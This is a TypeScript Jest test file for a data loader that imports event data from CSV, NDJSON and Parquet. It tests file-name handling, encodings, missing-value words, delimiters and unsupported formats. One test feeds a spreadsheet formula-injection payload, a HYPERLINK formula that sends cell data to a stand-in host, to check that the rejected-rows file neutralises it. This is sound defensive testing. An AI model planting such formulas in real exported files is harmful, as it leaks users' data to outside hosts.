import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from '@jest/globals';
import { CSV_HEADER } from '../support/csv-file.js';
import { addFile, FileLoads } from '../support/file-loads.js';
import { runInEtlHost } from '../support/etl-host.js';
import type { TestStore } from '../support/test-store.js';

const files = new FileLoads();
afterEach(() => files.clear());

const SESSION = '72d76fde-8bb3-4e00-8c23-a032dfed738c';
const row = (second: number, brand: string) =>
  `2019-07-01 00:00:${String(second).padStart(2, '0')} UTC,view,1,10,home,${brand},1.00,1,${SESSION}`;
const csv = (...rows: string[]): string => `${[CSV_HEADER, ...rows].join('\n')}\n`;

const brands = async (store: TestStore): Promise<(string | null)[]> =>
  (await store.client.query('select b.name from events e join brands b using (brand_id) order by e.event_time')).rows.map(
    ({ name }) => name,
  );

/** A Parquet file with one row of this brand. */
const parquet = (brand: string, name?: string): Promise<string> =>
  files.parquet(
    `select '2019-07-01 00:00:00' as event_time, 'view' as event_type, 1 as product_id, 10 as category_id, null as category_code,
       '${brand}' as brand, 1.0 as price, 1 as user_id, null as user_session`,
    name,
  );

describe('a path', () => {
  const NAMES = [
    'sales[1].csv',
    'sales?.csv',
    'sales*.csv',
    '{a,b}.csv',
    "it's 100 %.csv",
    '~',
    '-x.csv',
    's3:/bucket/a.csv',
    'x=y/brand=z/a.csv',
  ];

  it.each(NAMES)('is used as it is: %s', async (name) => {
    const path = files.file(csv(row(0, 'own')), name);
    // Quotes make the loader use the slow parser.
    const quoted = addFile(join(dirname(path), 'quoted', name), csv(row(1, '"own"')));
    for (const sibling of ['sales1.csv', 'sales[1]x.csv', 'a.csv'].map((file) => join(dirname(path), file))) {
      if (sibling !== path) addFile(sibling, csv(row(2, 'sibling'), row(3, 'sibling')));
    }
    const store = await files.newStore();
    const { output } = await runInEtlHost(store.url, ['load', '--', path, quoted]);
    expect([await brands(store), output]).toEqual([['own', 'own'], expect.stringContaining('loaded')]);
  });

  it.each(['sales[1].parquet', 'sales*.parquet', 'brand=folder/user_id=9/a.parquet'])(
    'of a Parquet file is used as it is: %s',
    async (name) => {
      const path = await parquet('own', name);
      for (const sibling of ['sales1.parquet', 'sales2.parquet']) addFile(join(dirname(path), sibling), 'PAR1 no more');
      const { store } = await files.load(path);
      expect(await brands(store)).toEqual(['own']);
      expect((await store.client.query('select user_id from events')).rows).toEqual([{ user_id: '1' }]);
    },
  );
});

describe('the file of rejected rows', () => {
  it.each(['=HYPERLINK("http://x.test/?"&A1)', '+1', '-1', '@SUM(A1)'])('has no formula when a row starts with %s', async (formula) => {
    const { output } = await files.load(files.file(csv(`${formula},view,1,5,home,b,1.00,1,`), 'formula.csv'));
    const path = /with line and reason in (.*)\)\n/.exec(output)?.[1] ?? '';
    const [, record = ''] = readFileSync(path, 'utf8').split('\n');
    const raw = /^2,("(?:[^"]|"")*"|[^,]*),"(.*)"$/.exec(record)?.[2]?.replaceAll('""', '"');
    expect(raw).toBe(`'${formula},view,1,5,home,b,1.00,1,`);
  });
});

describe('a folder for data', () => {
  it('may have a pattern as its name', async () => {
    const store = await files.newStore();
    const first = files.file(csv(row(0, 'a')), 'a.csv');
    const second = files.file(csv(row(1, 'b').replace('2019-07', '2019-08')), 'b.csv');
    const DATA_DIR = join(dirname(first), 'data [1]*');
    for (const file of [first, second]) expect((await runInEtlHost(store.url, ['load', file], { DATA_DIR })).code).toBe(0);
    expect(await brands(store)).toEqual(['a', 'b']);
  });
});

describe('text', () => {
  const latin1 = Buffer.from(csv(row(0, 'caf\u00e9'), row(1, 'caf\u00e8')), 'latin1');

  it('other than UTF-8 is rejected with its line, and loads with --encoding', async () => {
    const store = await files.newStore();
    const path = files.file(latin1);
    const refused = await runInEtlHost(store.url, ['load', path]);
    expect(refused.output).toContain('events.csv is not UTF-8 text (first invalid line: 2). Name its encoding, for example --encoding');
    expect(refused.code).toBe(1);
    expect((await store.client.query('select from loads')).rowCount).toBe(0);
    expect((await runInEtlHost(store.url, ['load', '--encoding', 'latin1', path])).code).toBe(0);
    expect(await brands(store)).toEqual(['caf\u00e9', 'caf\u00e8']);
  });

  it('other than UTF-8 is rejected in NDJSON and Parquet too', async () => {
    const event = { event_time: '2019-07-01 00:00:00', event_type: 'view', product_id: 1, user_id: 1, brand: 'caf\u00e9' };
    const good = JSON.stringify({ ...event, brand: 'tea' });
    const ndjson = files.file(gzipSync(Buffer.from(`${good}\n${good}\n${JSON.stringify(event)}\n`, 'latin1')), 'events.ndjson.gz');
    expect((await files.load(ndjson)).output).toContain('is not UTF-8 text (first invalid line: 3)');
    expect(await brands((await files.load(ndjson, '--encoding', 'windows-1252')).store)).toContain('caf\u00e9');

    const binary = await files.parquet(
      `select '2019-07-01 00:00:00' as event_time, 'view' as event_type, 1 as product_id, 10 as category_id, null as category_code,
         unhex('636166E9') as brand, 1.0 as price, 1 as user_id, null as user_session`,
    );
    expect((await files.load(binary)).output).toContain('is not UTF-8 text: brand of row 1 is the first invalid value');
    expect(await brands((await files.load(binary, '--encoding', 'latin1')).store)).toEqual(['caf\u00e9']);
  });

  it.each([
    ['UTF-8 with a mark', Buffer.from(`\ufeff${csv(row(0, 'caf\u00e9 \u20ac'))}`), []],
    ['UTF-16 LE with a mark', Buffer.from(`\ufeff${csv(row(0, 'caf\u00e9 \u20ac'))}`, 'utf16le'), []],
    ['UTF-16 BE with a mark', Buffer.from(`\ufeff${csv(row(0, 'caf\u00e9 \u20ac'))}`, 'utf16le').swap16(), []],
    ['UTF-16 LE without one', Buffer.from(csv(row(0, 'caf\u00e9 \u20ac')), 'utf16le'), ['--encoding', 'utf-16le']],
    ['windows-1252', Buffer.from(csv(row(0, 'caf\u00e9 \x80')), 'latin1'), ['--encoding', 'windows-1252']],
  ])('is read as %s', async (_, bytes, options) => {
    const { store, output } = await files.load(files.file(bytes), ...options);
    expect([await brands(store), output]).toEqual([['caf\u00e9 \u20ac'], expect.stringContaining('loaded')]);
  });

  it('in UTF-16 without a byte order mark gets a hint', async () => {
    expect((await files.load(files.file(Buffer.from(csv(row(0, 'a')), 'utf16le')))).output).toContain('--encoding utf-16le');
    const halved = Buffer.from(`\ufeff${csv(row(0, 'a'))}`, 'utf16le').subarray(0, -1);
    expect((await files.load(files.file(halved))).output).toContain('is not UTF-16LE text');
  });
});

describe('words for a missing value', () => {
  const words = ['nan', 'NaN', 'NAN', 'NULL', 'null', 'None', '\\N', '<NA>', 'NA', 'N/A', 'n/a', ''];
  const everywhere = (quote: string): string =>
    csv(
      ...words.map((word, second) =>
        `2019-09-01 00:00:${String(second).padStart(2, '0')} UTC,purchase,${second},Q,Q,Q,Q,${second},Q`.replaceAll(
          'Q',
          quote + word + quote,
        ),
      ),
    );
  const values = async (store: TestStore): Promise<unknown> =>
    (await store.client.query('select distinct category_key, brand_id, price, user_session from events')).rows;
  const none = [{ category_key: 0, brand_id: 0, price: null, user_session: null }];

  it('mean missing in every column of CSV and Parquet', async () => {
    const { store, output } = await files.load(files.file(everywhere('')));
    expect(output).toMatch(/loaded +12\n/);
    expect(await values(store)).toEqual(none);
    const columns = CSV_HEADER.split(',');
    const rows = words.map(
      (word, index) => `('2019-09-01 00:00:00', 'purchase', '${index}', '${word}', '${word}', '${word}', '${word}', '1', '${word}')`,
    );
    const path = await files.parquet(`select * from (values ${rows.join(', ')}) t (${columns.join(', ')})`);
    expect(await values((await files.load(path)).store)).toEqual(none);
  });

  it('in required columns reject the row', async () => {
    const { output } = await files.load(
      files.file(csv('NULL,view,1,,,,,1,', '2019-09-01 00:00:00,view,NaN,,,,,1,', '2019-09-01 00:00:00,view,1,,,,,None,')),
    );
    for (const column of ['event_time', 'product_id', 'user_id']) expect(output).toContain(`1  ${column} is missing`);
  });

  it('are names in quotes and in JSON, unless an option says otherwise', async () => {
    const named = ['None', 'NA', null];
    const bare = files.file(csv(...['None', 'NA', ''].map((brand, second) => row(second, brand))));
    const quoted = files.file(csv(...['None', 'NA', ''].map((brand, second) => row(second, `"${brand}"`))));
    const json = files.file(
      named
        .map((brand, second) =>
          JSON.stringify({ event_time: `2019-07-01 00:00:0${second}`, event_type: 'view', product_id: 1, user_id: 1, brand }),
        )
        .join('\n'),
    );
    const missing = [null, null, null];
    for (const [path, option, expected] of [
      [bare, 'unquoted', missing],
      [bare, 'none', named],
      [bare, 'all', missing],
      [quoted, 'unquoted', named],
      [quoted, 'none', named],
      [quoted, 'all', missing],
      [json, 'unquoted', named],
      [json, 'all', missing],
      [await parquet('None'), 'unquoted', [null]],
      [await parquet('None'), 'none', ['None']],
    ] as const) {
      expect([path, option, await brands((await files.load(path, '--missing-values', option)).store)]).toEqual([path, option, expected]);
    }
  });
});

describe('delimiters and wrappers', () => {
  const two = csv(row(0, 'a'), row(1, 'b'));

  it.each([
    ['semicolons', two.replaceAll(',', ';')],
    ['tabs', two.replaceAll(',', '\t')],
    ['bars', two.replaceAll(',', '|')],
    ['a sep= line', `sep=;\n${two.replaceAll(',', ';')}`],
    ['a sep= line of its own delimiter', `sep=$\n${two.replaceAll(',', () => '$')}`],
    ['semicolons and quotes', two.replaceAll(',', ';').replace('a;1.00', '"a";1.00')],
    ['carriage returns alone', two.replaceAll('\n', '\r')],
    [
      'an index column',
      two
        .split('\n')
        .map((line, index) => (line === '' ? '' : `${index === 0 ? '' : index - 1},${line}`))
        .join('\n'),
    ],
    ['names in another case', two.replace('event_time,event_type', ' Event Time ,EVENT-TYPE')],
  ])('%s are read', async (_, content) => {
    const { store, output } = await files.load(files.file(content));
    expect([await brands(store), output]).toEqual([['a', 'b'], expect.stringMatching(/loaded +2\n/)]);
  });

  it('keep the line of a rejected row', async () => {
    const bad = `sep=;\n${two}2019-07-01 00:00:02,foo,1,,,,,1,\n`.replaceAll(',', ';');
    const { store } = await files.load(files.file(bad));
    expect((await store.client.query('select line, raw from rejected_events')).rows).toEqual([
      { line: '5', raw: '2019-07-01 00:00:02;foo;1;;;;;1;' },
    ]);
  });

  it.each([
    ['zero bytes', Buffer.alloc(700)],
    ['other bytes', Buffer.from('garbage')],
  ])('a gzip file with trailing %s is read', async (_, tail) => {
    const { store, output, code } = await files.load(files.file(Buffer.concat([gzipSync(two), tail]), 'a.csv.gz'));
    expect([await brands(store), code]).toEqual([['a', 'b'], 0]);
    expect(output).toContain(`${tail.length} bytes after the gzip data were ignored`);
  });

  it('unsupported files are named by their kind, gzipped or not', async () => {
    const kinds: [what: string, content: string][] = [
      ['a zip archive: unpack it first', 'PK\x03\x04 and more'],
      ['an Excel workbook (XLSX): save the sheet as CSV', 'PK\x03\x04\x14\0\x06\0[Content_Types].xml'],
      ['a Git LFS pointer', 'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n'],
      ['a web page (HTML)', '\n<!DOCTYPE html><html><body>Sign in</body></html>'],
      ['a JSON array: write one object per line', '[{"event_time":"2019-07-01 00:00:00"}]'],
      ['a tar archive', `${'a.csv'.padEnd(257, '\0')}ustar`],
    ];
    const plain = kinds.map(([, content], index) => files.file(Buffer.from(content, 'latin1'), `plain${index}`));
    const packed = kinds.map(([, content], index) => files.file(gzipSync(Buffer.from(content, 'latin1')), `packed${index}`));
    const { output, code } = await runInEtlHost((await files.newStore()).url, ['load', ...plain, ...packed]);
    for (const [index, [what]] of kinds.entries()) {
      expect(output).toContain(`plain${index} is ${what}`);
      expect(output).toContain(`packed${index} is a gzip file that contains ${what}`);
    }
    expect(code).toBe(1);
  });

  it.each([
    ['lacks the columns event_time, event_type,', 'id:name\n1:a\n'],
    ['lacks the column user_session (its first line is: event_time;', CSV_HEADER.replace(',user_session', '').replaceAll(',', ';')],
  ])('%s', async (what, content) => {
    const { output, code } = await files.load(files.file(content));
    expect([output, code]).toEqual([expect.stringContaining(`events.csv ${what}`), 1]);
  });

  it('a Parquet file may have columns in any case, and lists them when one is missing', async () => {
    const query = `select '2019-07-01 00:00:00' as "EVENT_TIME", 'view' as "Event_Type", 1 as "Product ID", 1 as category_id,
      null as category_code, 'own' as " BRAND ", 1.0 as price, 1 as user_id, null as user_session`;
    expect(await brands((await files.load(await files.parquet(query))).store)).toEqual(['own']);
    const lacking = await files.load(await files.parquet(query.replace('1 as user_id', '1 as uid')));
    expect(lacking.output).toContain('lacks the column user_id (it has: EVENT_TIME, Event_Type, Product ID, category_id, category_code,');
    const twice = await files.load(await files.parquet(`${query}, 'other' as brand`));
    expect(twice.output).toContain('has the column brand twice');
  });
});
